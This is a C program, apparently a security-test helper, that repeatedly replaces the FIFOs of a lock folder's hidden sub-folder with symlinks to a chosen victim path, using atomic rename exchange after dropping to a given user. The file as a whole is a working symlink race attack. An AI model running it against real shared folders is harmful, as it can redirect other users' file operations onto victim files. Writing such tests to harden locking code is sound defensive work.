/* Replaces the FIFOs of a lock folder by links, many times. Any user that may write to the folder can do this.
 *
 *     swapper USER HIDDEN VICTIM     as USER; HIDDEN is the sub-folder, VICTIM is the target of the links
 *
 * It ends when its input ends, and prints the number of FIFOs that it has replaced. A link stays for a moment. Then the name is free
 * again, so that claimants make new FIFOs.
 */
#define _GNU_SOURCE 1

#include <dirent.h>
#include <fcntl.h>
#include <grp.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static const char *victim;
static long swapped;

static void swap(int hidden, const char *name) {
    static const char spare[] = "swapper's";
    struct stat was;
    if (symlinkat(victim, hidden, spare) == 0 && renameat2(hidden, spare, hidden, name, RENAME_EXCHANGE) == 0) {
        if (fstatat(hidden, spare, &was, AT_SYMLINK_NOFOLLOW) == 0 && S_ISFIFO(was.st_mode)) {
            swapped++;
        }
    } else {
        /* There is no FIFO, or the folder is sticky and protects it. */
        int ignored = symlinkat(victim, hidden, name);
        (void)ignored;
    }
    unlinkat(hidden, spare, 0);
    unlinkat(hidden, name, 0);
}

int main(int count, char **arguments) {
    if (count != 4) {
        return 2;
    }
    unsigned user = (unsigned)atol(arguments[1]);
    if (setgroups(0, NULL) != 0 || setresgid(user, user, user) != 0 || setresuid(user, user, user) != 0) {
        perror(arguments[1]);
        return 1;
    }
    victim = arguments[3];
    int hidden = open(arguments[2], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    DIR *dir = hidden < 0 ? NULL : fdopendir(dup(hidden));
    if (dir == NULL) {
        perror(arguments[2]);
        return 1;
    }
    struct pollfd input = {.fd = 0, .events = POLLIN};
    do {
        const struct dirent *entry;
        rewinddir(dir);
        swap(hidden, "tail");
        while ((entry = readdir(dir)) != NULL) {
            /* Each claim, ID.json, has two beacons. */
            size_t length = strlen(entry->d_name);
            char name[300];
            if (length > 5 && strcmp(entry->d_name + length - 5, ".json") == 0) {
                for (int number = 1; number <= 2; number++) {
                    snprintf(name, sizeof name, "%.*s.beacon-%d", (int)length - 5, entry->d_name, number);
                    swap(hidden, name);
                }
            }
        }
    } while (poll(&input, 1, 0) == 0);
    printf("%ld\n", swapped);
    return 0;
}
